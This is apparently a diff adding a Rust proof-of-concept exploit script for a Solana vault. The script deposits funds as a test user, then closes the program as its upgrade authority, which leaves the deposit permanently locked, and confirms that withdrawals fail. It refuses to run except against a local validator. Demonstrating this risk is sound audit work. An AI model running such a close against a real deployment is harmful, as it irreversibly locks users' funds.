@@ -0,0 +1,117 @@
+//! solana-program-close: lock user deposits by closing the program.
+//!
+//! A fresh user deposits into a vault, then the payer, acting as the upgrade
+//! authority, runs the equivalent of `solana program close`. The vault's
+//! tokens are still there but nothing can move them: every `withdraw` fails
+//! because the program no longer exists, and its address can never be
+//! redeployed.
+//!
+//! This destroys the deployment, so it only runs against a local validator.
+//! Restart it with `--reset` afterwards.
+
+use anchor_client::solana_sdk::{
+    bpf_loader_upgradeable,
+    pubkey::Pubkey,
+    signature::Signer,
+    system_program, sysvar,
+};
+use exploits::{Exploit, ExploitResult};
+use spl_associated_token_account::get_associated_token_address;
+
+const DEPOSIT: u64 = 1_000_000;
+
+fn main() -> ExploitResult<()> {
+    let exploit = Exploit::from_args()?;
+    if !exploit.is_local() {
+        return Err(format!("refusing to close a program on {}, use a local validator", exploit.rpc_url).into());
+    }
+    let program = exploit.program(solana_program_close::ID)?;
+
+    let owner = exploit.new_victim()?;
+    let mint = exploit.create_mint(6)?;
+    let user_token_account = exploit.create_token_account(&owner.pubkey(), &mint)?;
+    exploit.mint_to(&mint, &user_token_account, DEPOSIT)?;
+
+    let vault = solana_program_close::vault_address(&owner.pubkey(), 0);
+    let vault_token_account = get_associated_token_address(&vault, &mint);
+    let share_mint = solana_program_close::share_mint_address(&vault);
+    let user_share_account = get_associated_token_address(&owner.pubkey(), &share_mint);
+    let pda = |seed: &[u8]| Pubkey::find_program_address(&[seed], &solana_program_close::ID).0;
+    let config = pda(solana_program_close::CONFIG_SEED);
+    let circuit_breaker = pda(solana_program_close::CIRCUIT_BREAKER_SEED);
+    let fee_authority = pda(solana_program_close::FEE_AUTHORITY_SEED);
+    let fee_collector = exploit.create_token_account(&fee_authority, &mint)?;
+
+    program
+        .request()
+        .accounts(solana_program_close::accounts::InitializeVault {
+            vault,
+            vault_token_account,
+            user_token_account,
+            mint,
+            share_mint,
+            user_share_account,
+            config,
+            owner: owner.pubkey(),
+            token_program: spl_token::id(),
+            associated_token_program: spl_associated_token_account::id(),
+            system_program: system_program::id(),
+            rent: sysvar::rent::id(),
+        })
+        .args(solana_program_close::instruction::InitializeVault {
+            vault_id: 0,
+            initial_deposit: DEPOSIT,
+        })
+        .signer(&owner)
+        .send()
+        .map_err(|err| format!("deposit failed, was initialize_config run after deploying? {err}"))?;
+    println!("user {} deposited {DEPOSIT} into vault {vault}", owner.pubkey());
+
+    // `solana program close <program id>`: the program data's lamports go to
+    // the payer and the program account is left pointing at nothing
+    let program_data = bpf_loader_upgradeable::get_program_data_address(&solana_program_close::ID);
+    let payer = exploit.payer.pubkey();
+    exploit
+        .send(
+            vec![bpf_loader_upgradeable::close_any(
+                &program_data,
+                &payer,
+                Some(&payer),
+                Some(&solana_program_close::ID),
+            )],
+            &[],
+        )
+        .map_err(|err| format!("close failed, is the payer the upgrade authority? {err}"))?;
+    println!("closed {}", solana_program_close::ID);
+
+    let withdraw = program
+        .request()
+        .accounts(solana_program_close::accounts::Withdraw {
+            vault,
+            vault_token_account,
+            mint,
+            user_token_account,
+            share_mint,
+            user_share_account,
+            config,
+            circuit_breaker,
+            fee_authority,
+            fee_collector,
+            owner: owner.pubkey(),
+            token_program: spl_token::id(),
+        })
+        .args(solana_program_close::instruction::Withdraw { amount: DEPOSIT })
+        .signer(&owner)
+        .send();
+    match withdraw {
+        Ok(signature) => Err(format!("withdraw {signature} succeeded after the close").into()),
+        Err(err) => {
+            println!("withdraw fails: {err}");
+            println!(
+                "vault token account {vault_token_account} still holds {}, locked for good",
+                exploit.token_balance(&vault_token_account)?
+            );
+            Ok(())
+        }
+    }
+}